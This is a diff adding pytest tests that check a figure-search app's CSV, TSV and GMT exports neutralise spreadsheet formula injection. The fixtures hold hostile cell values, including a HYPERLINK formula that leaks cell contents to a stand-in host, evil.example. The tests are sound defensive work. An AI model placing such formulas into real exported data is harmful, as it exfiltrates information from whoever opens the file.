@@ -154,6 +154,50 @@ def test_json_export_is_one_array():
     assert "".join(export.render("json", [])) == "[]\n"
 
 
+# Cells a spreadsheet would run as formulas (OWASP "CSV injection"), on every text field.
+FORMULA_HIT = hit(
+    Figure(
+        figid="PMC3__fig3",
+        figtitle='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        papertitle="+1+1",
+        reftext="-2+3",
+        journal="@SUM(A1:A9)",
+        genes=[Gene("=1+1"), Gene("STAT3")],
+        diseases=[Term("\t=1+1")],
+        chemicals=[Term("\r=1+1")],
+    ).as_dict(),
+    "",
+    None,
+)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize(("fmt", "dialect"), [("csv", csv.excel), ("tsv", csv.excel_tab)])
+def test_delimited_export_neutralises_formulas(fmt: str, dialect: type[csv.Dialect]):
+    text = "".join(export.render(fmt, [FORMULA_HIT, AWKWARD_HIT]))
+    rows = list(csv.DictReader(io.StringIO(text, newline=""), dialect=dialect))
+    first = rows[0]
+    assert first["title"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    assert (first["paper_title"], first["reference"]) == ("'+1+1", "'-2+3")
+    assert (first["journal"], first["genes"]) == ("'@SUM(A1:A9)", "'=1+1|STAT3")
+    assert (first["diseases"], first["chemicals"]) == ("'\t=1+1", "'\r=1+1")
+    for row in rows:
+        assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)]
+    assert rows[1]["title"] == AWKWARD_HIT["title"]  # harmless text stays exact
+
+
+def test_gmt_export_neutralises_formulas_but_keeps_real_symbols_exact():
+    text = "".join(export.render("gmt", [FORMULA_HIT, AWKWARD_HIT]))
+    hostile, awkward = (line.split("\t") for line in text.splitlines())
+    assert hostile == [
+        "PMC3__fig3",
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "'=1+1",
+        "STAT3",
+    ]
+    assert awkward[2:] == ["IL6", "STAT3", "JAK2"]
+
+
 # -- the app over a real index -----------------------------------------------------------
 
 
@@ -335,6 +379,42 @@ def test_gmt_export(client: FlaskClient):
     stat3 = next(s for s in sets if s[0] == STAT3_RECORD)
     assert "STAT3" in stat3[2:]
     assert all(len(s) >= 3 and all(field.strip() for field in s) for s in sets)
+
+
+@pytest.fixture(scope="module")
+def formula_client(tmp_path_factory: pytest.TempPathFactory) -> FlaskClient:
+    """The app over one real record whose texts were made to start spreadsheet formulas."""
+    records = tmp_path_factory.mktemp("formula_records")
+    text = (SAMPLE_RECORDS / f"{STAT3_RECORD}.md").read_text(encoding="utf-8")
+    hostile = {
+        "figtitle: Domain structure and signaling pathway of STAT3": 'figtitle: "\\t=1+1"',
+        "reftext: Sailan Zou, et al. Mol Cancer. 2020;19:145.": (
+            'reftext: \'=HYPERLINK("http://evil.example/?leak="&A1,"x")\'\n'
+            'journal_title: "@SUM(A1)"'
+        ),
+    }
+    for line, replacement in hostile.items():
+        assert line in text
+        text = text.replace(line, replacement)
+    (records / f"{STAT3_RECORD}.md").write_text(text, encoding="utf-8")
+    root = tmp_path_factory.mktemp("formula_index")
+    report = pipeline.build([records], root, workers=1)
+    assert report.figures_rejected == 0, report.rejected
+    return create_app(root, {"TESTING": True}).test_client()
+
+
+@pytest.mark.parametrize(("fmt", "dialect"), [("csv", csv.excel), ("tsv", csv.excel_tab)])
+def test_exported_record_cannot_start_a_formula(
+    formula_client: FlaskClient, fmt: str, dialect: type[csv.Dialect]
+):
+    text = formula_client.get(f"/api/search?format={fmt}").get_data(as_text=True)
+    (row,) = csv.DictReader(io.StringIO(text, newline=""), dialect=dialect)
+    # The indexer strips the leading tab; the check is on the text as exported.
+    assert row["title"] == "'=1+1"
+    assert row["reference"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    assert row["journal"] == "'@SUM(A1)"
+    gmt = formula_client.get("/api/search?format=gmt").get_data(as_text=True)
+    assert gmt.split("\t")[1] == "'=1+1"
 
 
 # -- caching and CORS ------------------------------------------------------------------------
